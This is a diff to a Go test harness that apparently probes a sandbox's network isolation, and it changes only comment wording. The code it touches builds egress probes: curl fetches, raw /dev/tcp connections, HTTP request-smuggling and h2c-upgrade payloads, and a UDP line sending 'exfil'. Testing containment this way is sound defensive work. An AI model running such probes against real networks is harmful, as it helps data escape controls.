@@ -14,10 +14,10 @@ import (
 	"github.com/paddock-sandbox/paddock/attack/target"
 )
 
-// aliveScript shows the host that the way out works.
+// aliveScript shows the host that the network works.
 const aliveScript = `curl -sf -m 10 "http://$ALIVE/alive"`
 
-// fetch makes a technique of each URL, and curls gives curl options with it.
+// fetch returns a technique for each URL, and curls one with options of curl.
 func fetch(name string, urls ...string) []spell {
 	return each(name, `curl -sf --globoff -m 3 "%s"`, urls...)
 }
@@ -26,13 +26,13 @@ func curls(name string, args ...string) []spell {
 	return each(name, `curl -sfk --globoff -m 3 %s`, args...)
 }
 
-// spoken makes a technique of what is said on a connection: bytes as printf has
-// them. What comes back is shown, and has to be of a server.
+// spoken returns a technique that sends bytes on a connection, in printf's notation. The
+// answer is printed, and must come from a server.
 func spoken(name, to, text string) spell {
 	return spell{name, fmt.Sprintf(`exec 3<> /dev/tcp/%s && printf '%s' >&3 && timeout 1 cat <&3 | grep -a canary`, to, text)}
 }
 
-// networkScripts gives the ways of a row about the way out that a shell can try.
+// networkScripts returns the scripts of a network row.
 func networkScripts(id string) []spell {
 	switch id {
 	case "N01":
@@ -141,7 +141,7 @@ func requestScripts(id string) []spell {
 func smuggledScripts(id string) []spell {
 	next := `GET /smuggled HTTP/1.1\r\nHost: inspect.test\r\nConnection: close\r\n\r\n`
 	first := `POST /ok HTTP/1.1\r\nHost: inspect.test\r\n`
-	// Only what a server says of the second counts.
+	// Only a server's answer to the second request counts.
 	second := func(name, text string) spell {
 		s := spoken(name, "inspect.test/80", text)
 		s.script += ` | grep -a smuggled`
@@ -162,7 +162,7 @@ func smuggledScripts(id string) []spell {
 	return []spell{spoken("prior knowledge", "inspect.test/80", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`), second("upgrade", `GET /ok HTTP/1.1\r\nHost: inspect.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`+next), {"datagrams", `echo exfil > /dev/udp/allowed.test/443`}}
 }
 
-// open are rules that allow whatever there is.
+// open returns rules that allow everything.
 func open() paddock.NetworkPolicy {
 	ports := []uint16{22, 25, 53, 80, 443, 853, 1080, 3128, 8080}
 	p := paddock.NetworkPolicy{Mode: paddock.NetworkList}
@@ -172,8 +172,8 @@ func open() paddock.NetworkPolicy {
 	return p
 }
 
-// online begins the scripts of a row about the way out: the way works, and where
-// all is allowed some script succeeds, or their refusals would prove nothing.
+// online prepares the scripts of a network row: it checks that the network works, and that
+// some script succeeds where all is allowed. Otherwise refusals would prove nothing.
 func (x *trial) online(ctx context.Context, sb paddock.Sandbox, ways []spell) error {
 	if x.w.brief.Phase != killedPhase {
 		if try, err := x.script(ctx, sb, spell{"alive", aliveScript}); err != nil || try.Outcome != target.Inside {
@@ -188,7 +188,7 @@ func (x *trial) online(ctx context.Context, sb paddock.Sandbox, ways []spell) er
 		return err
 	}
 	x.before = append(x.before, seen)
-	defer func() { _, _ = x.w.witness.take() }() // what was allowed is no evidence
+	defer func() { _, _ = x.w.witness.take() }() // allowed traffic is not evidence
 	free, err := x.box(func(s *paddock.Spec) { s.Policy.Network = open() })
 	if err != nil {
 		return fmt.Errorf("a sandbox that may all: %w", err)
@@ -213,8 +213,8 @@ func (x *trial) online(ctx context.Context, sb paddock.Sandbox, ways []spell) er
 	return errors.New("no script succeeds where all is allowed, so that they are refused proves nothing")
 }
 
-// offlineScripts lists the rows whose scripts do not succeed even where all is
-// allowed, with why.
+// offlineScripts lists the rows whose scripts do not succeed even where all is allowed,
+// with the reasons.
 func offlineScripts() map[string]string {
 	return map[string]string{
 		"N10": "what is no name is none anywhere",
@@ -229,10 +229,10 @@ func offlineScripts() map[string]string {
 	}
 }
 
-// killedPhase is the phase of a row in which there is no gateway any more.
+// killedPhase is the phase of a row without a gateway.
 const killedPhase = "killed"
 
-// A log is output that is read while it grows.
+// A log is output that may be read while it grows.
 type log struct {
 	mu   sync.Mutex
 	text bytes.Buffer
@@ -250,7 +250,7 @@ func (l *log) has(text string) bool {
 	return strings.Contains(l.text.String(), text)
 }
 
-// changeScripts is N25 where there are only scripts.
+// changeScripts is N25 for a tier with scripts only.
 func (x *trial) changeScripts() []target.Try {
 	ctx, cancel := x.brief(time.Minute)
 	defer cancel()
